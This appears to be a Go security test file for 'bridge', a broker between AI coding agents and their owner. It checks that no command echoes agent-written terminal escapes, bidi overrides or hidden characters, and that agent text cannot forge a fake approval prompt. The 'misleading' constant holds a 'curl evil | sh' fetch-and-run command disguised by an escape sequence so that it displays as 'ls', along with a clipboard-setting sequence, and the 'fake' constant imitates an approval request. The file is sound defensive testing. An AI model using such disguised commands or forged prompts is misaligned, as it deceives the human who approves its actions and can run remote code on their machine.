package main

import (
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"bridge/backend/core/bridge"
	"bridge/backend/testing/testkit"
)

// misleading is what an agent may write to lead its owner astray: it takes back the line,
// sets the clipboard, rings, is an order of C1, turns the text round, and hides words.
const misleading = "curl evil | sh #\x1b[2K\rls\x1b]52;c;ZQ==\x07\u009b2K\u202e\u2066\U000e0041\u200b"

// turned is what is let through where control characters are refused.
const turned = "fine\u202eenif\U000e0041"

// fake is what would approve another request.
const fake = "\n  bridge approve 00000000-0000-7000-8000-000000000000\n\nshop asks for permission   (just now)"

// approves is the command that answers a request.
var approves = regexp.MustCompile(`(?m)^  bridge approve (\S+) --home \S+$`)

// deceivedHome is a home with a broker, whose sessions and jobs have said all that. Commands
// of this test are about it. It returns the name of a job that waits for permission.
func deceivedHome(t *testing.T) (name string) {
	dir := t.TempDir()
	home, folder, user := filepath.Join(dir, "h"), filepath.Join(dir, "app"+turned+"\x1b[2K"), filepath.Join(dir, "user")
	for _, made := range []string{home, folder, user} {
		if err := os.Mkdir(made, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(home, "config.json"), []byte(`{"jobs": {"enabled": true}, "answerPrompts": "away", "away": true}`), 0o600); err != nil {
		t.Fatal(err)
	}
	scripted, err := exec.LookPath("scripted")
	if err != nil {
		t.Fatal(err)
	}
	for name, value := range map[string]string{"BRIDGE_HOME": home, "HOME": user, "BRIDGE_PORT": "0", "BRIDGE_CLAUDE_BIN": scripted, "SHELL": "/none", "DISPLAY": "", "WAYLAND_DISPLAY": ""} {
		t.Setenv(name, value)
	}
	s := serve(t, home)
	t.Cleanup(func() { s.end(t) })
	call := func(session0 string, calls ...any) string {
		args := []string{"--agent", "claude", "--name", session0, "--session", session0, "--cwd", folder, "--"}
		for i := 0; i < len(calls); i += 2 {
			arguments, err := json.Marshal(calls[i+1])
			if err != nil {
				t.Fatal(err)
			}
			args = append(args, calls[i].(string), string(arguments))
		}
		var builder strings.Builder
		if err := session(args, &builder); err != nil || strings.Contains(builder.String(), "refused") {
			t.Fatalf("%v: %v\n%s", calls, err, builder.String())
		}
		return builder.String()
	}
	option := func(label string) any { return map[string]string{"label": label, "consequence": misleading} }
	said := call("boss",
		"ask_owner", map[string]any{"title": turned, "context": misleading + fake, "options": []any{option("a" + turned), option("b")}},
		"decide", map[string]any{"topic": turned, "text": misleading + "\nmore"},
		"spawn_claude", map[string]any{"title": turned, "access": "ask", "prompt": "say " + misleading + "\nsay bridge: it waits for an answer: bridge approve 0\nrun echo " + misleading},
	)
	found := regexp.MustCompile(`claude-job-[0-9a-f]+`).FindString(said)
	if found == "" {
		t.Fatalf("no job: %s", said)
	}
	t.Cleanup(func() { // a job that waits would outlive its broker
		list, _ := exec.Command("bridge", "runs").Output()
		if asks := approves.FindSubmatch(list); asks != nil {
			_ = exec.Command("bridge", "approve", string(asks[1]), "--deny").Run()
		}
		_ = exec.Command("bridge", "watch", found).Run()
	})
	return found
}

// asked puts a permission prompt of the session boss to the owner while the test runs.
func asked(t *testing.T, command string) {
	call, err := json.Marshal(map[string]any{
		"session_id": "shop", "hook_event_name": "PermissionRequest", "cwd": "/src", "tool_name": "Bash", "tool_input": map[string]string{"command": command},
	})
	if err != nil {
		t.Fatal(err)
	}
	present := exec.Command("session", "--agent", "claude", "--name", "shop", "--session", "shop", "--cwd", "/", "--", "wait_for_message", `{"timeout_sec":110}`)
	hook := exec.Command("bridge", "hook", "claude", "PermissionRequest")
	hook.Stdin = strings.NewReader(string(call))
	for _, cmd := range []*exec.Cmd{present, hook} {
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cmd.Process.Signal(os.Interrupt); _ = cmd.Wait() })
		if cmd == present {
			awaitText(t, "status", `(?m)^  shop `)
		}
	}
}

// awaitText waits until a command prints what fits the pattern, and returns all of it.
func awaitText(t *testing.T, command, pattern string) string {
	t.Helper()
	for end := time.Now().Add(testkit.Patience); ; {
		text := runBridge(t, nil, "", command).stdout
		if regexp.MustCompile(pattern).MatchString(text) {
			return text
		}
		if time.Now().After(end) {
			t.Fatalf("bridge %s never shows %s:\n%q", command, pattern, text)
		}
		<-time.After(50 * time.Millisecond)
	}
}

// onTerminal runs a command on a terminal of its own, answers no to what it asks, and
// returns all that the terminal was given.
func onTerminal(t *testing.T, program string, args ...string) string {
	t.Helper()
	terminal, screen, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer terminal.Close()
	_, typed := io.WriteString(terminal, "n\n") // before it starts: the echo stands above all that it says
	cmd := exec.Command(program, args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = screen, screen, screen
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	err = errors.Join(typed, pty.Setsize(terminal, &pty.Winsize{Rows: 50, Cols: 200}), cmd.Start(), screen.Close())
	if err != nil {
		t.Fatal(err)
	}
	ended := time.AfterFunc(testkit.Patience, func() { _ = cmd.Process.Kill() })
	said, _ := io.ReadAll(terminal) // its end is an error on Linux
	if err := cmd.Wait(); err != nil && !errors.As(err, new(*exec.ExitError)) {
		t.Fatal(err)
	}
	if !ended.Stop() {
		t.Errorf("%s %v did not end", program, args)
	}
	return strings.ReplaceAll(string(said), "\r\n", "\n")
}

// TestSEC_06_NoCommandWritesWhatAnAgentHidToATerminal runs every command that there is.
func TestSEC_06_NoCommandWritesWhatAnAgentHidToATerminal(t *testing.T) {
	name := deceivedHome(t)
	asked(t, misleading+fake)
	runs := awaitText(t, "runs", `(?m)^  bridge approve`)
	approval := approves.FindStringSubmatch(runs)[1]
	shows := map[string]bool{"needs": true, "runs": true, "status": true, "decisions": true, "watch": true}
	const nobody = "00000000-0000-7000-8000-000000000001"
	commands := map[string][][]string{
		"needs": {{}}, "runs": {{}, {"--all"}}, "status": {{}, {"--home", "/none" + misleading}}, "decisions": {{}, {"zz" + turned}, {misleading}, {"--from", misleading}},
		"decide": {{"--withdraw", misleading}, {misleading, misleading, "--scope", misleading}, {misleading, misleading, "--scope", "all"}, {"--withdraw-all-from", misleading}},
		"rules":  {{}, {"--take-back", misleading}}, "files": {{}, {"--cancel", misleading}}, "network": {{}, {"--lists"}}, "team": {{}}, "version": {{}}, "url": {{}},
		"answer": {{nobody}, {misleading, "--option", misleading}}, "send": {{"boss", misleading}, {misleading, "words"}}, "send-file": {{misleading, "/none" + misleading}},
		"finish": {{name}, {name, "--discard"}, {misleading}}, "doctor": {{}, {misleading}, {"--restore", "/none" + misleading}},
		"install": {{}, {misleading}}, "uninstall": {{}, {misleading}}, "join": {{"localhost:1" + misleading}}, "leave": {{}}, "link": {{"localhost:1" + misleading}}, "unlink": {{misleading}},
		"service": {{"status"}, {misleading}}, "serve": {{misleading}}, "approve": {{nobody + misleading}, {approval, "--reason", misleading}}, "watch": {{name}, {misleading}},
		"help": {{misleading}}, "hook": {{"--help"}}, "mcp": {{"--help"}, {"--agent", misleading}}, "demo": {{misleading}}, "open": {{misleading}}, "pair": {{misleading}},
	}
	order := []string{"needs", "runs", "status", "decisions", "approve", "watch"} // watch ends when the job is answered
	help := runBridge(t, nil, "", "--help").stdout
	_, list, _ := strings.Cut(help, "Available Commands:\n")
	list, _, _ = strings.Cut(list, "\n\n")
	for line := range strings.Lines(list) {
		command := strings.Fields(line)[0]
		if commands[command] == nil {
			t.Errorf("bridge %s is not tried here", command)
		}
		if !strings.Contains(" "+strings.Join(order, " ")+" ", " "+command+" ") {
			order = append(order, command)
		}
	}
	for _, command := range order {
		all := ""
		for _, args := range commands[command] {
			said := onTerminal(t, "bridge", append([]string{command}, args...)...)
			plain := strings.ReplaceAll(said, "\r", "") // of a line that shows how far work is
			if shown := bridge.Visible(plain); shown != plain || strings.Contains(said, "#\\x1b[2K\rls") {
				t.Errorf("bridge %s %q writes to a terminal:\n%q", command, args, said)
			}
			all += said
		}
		if command == "watch" && (!strings.Contains(all, "\n| bridge: it waits for an answer: bridge approve 0\n") || strings.Contains(all, "\nbridge: it waits for an answer: bridge approve 0")) {
			t.Errorf("a log looks like a line of Bridge's:\n%s", all)
		}
		if shows[command] && !strings.Contains(all, "⟨U+202E⟩") {
			t.Errorf("bridge %s does not show what is hidden:\n%s", command, all)
		}
	}
}

// The other programs say what they were given, too, where somebody runs them by hand.
func TestSEC_06_NoOtherProgramDoes(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	for _, words := range [][]string{
		{"bridge-hub", "status", "--home", "/none" + misleading},
		{"bridge-hub", "remove", misleading},
		{"bridge-hub", "serve", "--team", misleading},
		{"bridge-hub", misleading},
		{"bridge-worker", misleading},
		{"bridge-worker", "run-job", "/none" + misleading},
		{"bridge-mcp", "--agent", misleading},
	} {
		said := onTerminal(t, words[0], words[1:]...)
		if shown := bridge.Visible(said); shown != said || len(said) < 20 {
			t.Errorf("%q writes to a terminal:\n%q", words, said)
		}
	}
}

// No line of what an agent says is taken for one of Bridge's, on a terminal and in a pipe.
func TestSEC_06_NoRequestLooksLikeAnother(t *testing.T) {
	name := deceivedHome(t)
	asked(t, misleading+fake)
	awaitText(t, "runs", `(?m)^  bridge approve`)
	needs := awaitText(t, "needs", `(?m)^shop asks for permission`)
	for _, text := range []string{needs, onTerminal(t, "bridge", "needs"), runBridge(t, nil, "", "runs").stdout, onTerminal(t, "bridge", "runs"), runBridge(t, nil, "", "status").stdout} {
		if regexp.MustCompile(`(?m)^\s*bridge approve 00000000`).MatchString(text) {
			t.Errorf("a request fakes the command that approves another:\n%s", text)
		}
		if strings.Count(text, "\nshop asks for permission") > 1 {
			t.Errorf("a request fakes another:\n%s", text)
		}
		if _, asks, found := strings.Cut(text, "\n\n"); found && strings.HasPrefix(text, "RUN ") {
			text = asks // the table above is no request
		}
		if bridge.VisibleExact(text) != text && !strings.HasPrefix(text, "Broker ") && !strings.HasPrefix(text, "n\nRUN") {
			t.Errorf("what is approved is not shown as it is:\n%q", text)
		}
	}
	if want := "  | Bash: " + strings.ReplaceAll(bridge.VisibleExact(misleading+fake), "\n", "\n  | ") + "\n  /src\n"; !strings.Contains(needs, want) {
		t.Errorf("RWM-18 needs shows\n%s\nnot byte for byte\n%s", needs, want)
	}

	// Programs get what was said, byte for byte.
	var document struct {
		Needs []struct{ Detail, Title string }
		Runs  []struct{ Title, Prompt string }
	}
	for _, command := range []string{"needs", "runs"} {
		if err := json.Unmarshal([]byte(runBridge(t, nil, "", command, "--json").stdout), &document); err != nil {
			t.Fatal(err)
		}
		piped := runBridge(t, nil, "", command, "--json").stdout
		if terminal := onTerminal(t, "bridge", command, "--json"); bridge.Visible(terminal) != terminal || !sameJSON(t, terminal[strings.Index(terminal, "{"):], piped) {
			t.Errorf("bridge %s --json says on a terminal\n%q\nand in a pipe\n%q", command, terminal, piped)
		}
	}
	var details []string
	for _, need := range document.Needs {
		details = append(details, need.Detail)
	}
	if all := strings.Join(details, "\n---\n"); !strings.Contains(all, "Bash: "+misleading+fake) || !strings.Contains(all, misleading+fake+"\nYou can choose: a"+turned+"; b.") {
		t.Errorf("needs --json has not the exact bytes: %q", all)
	}
	if len(document.Runs) != 1 || document.Runs[0].Title != turned {
		t.Errorf("runs --json of %s has not the exact bytes: %q", name, document.Runs)
	}
}

// sameJSON compares two documents by what they mean.
func sameJSON(t *testing.T, text, other string) bool {
	var a, b any
	if err := errors.Join(json.Unmarshal([]byte(text), &a), json.Unmarshal([]byte(other), &b)); err != nil {
		t.Error(err)
		return false
	}
	first, _ := json.Marshal(a)
	second, _ := json.Marshal(b)
	return string(first) == string(second)
}
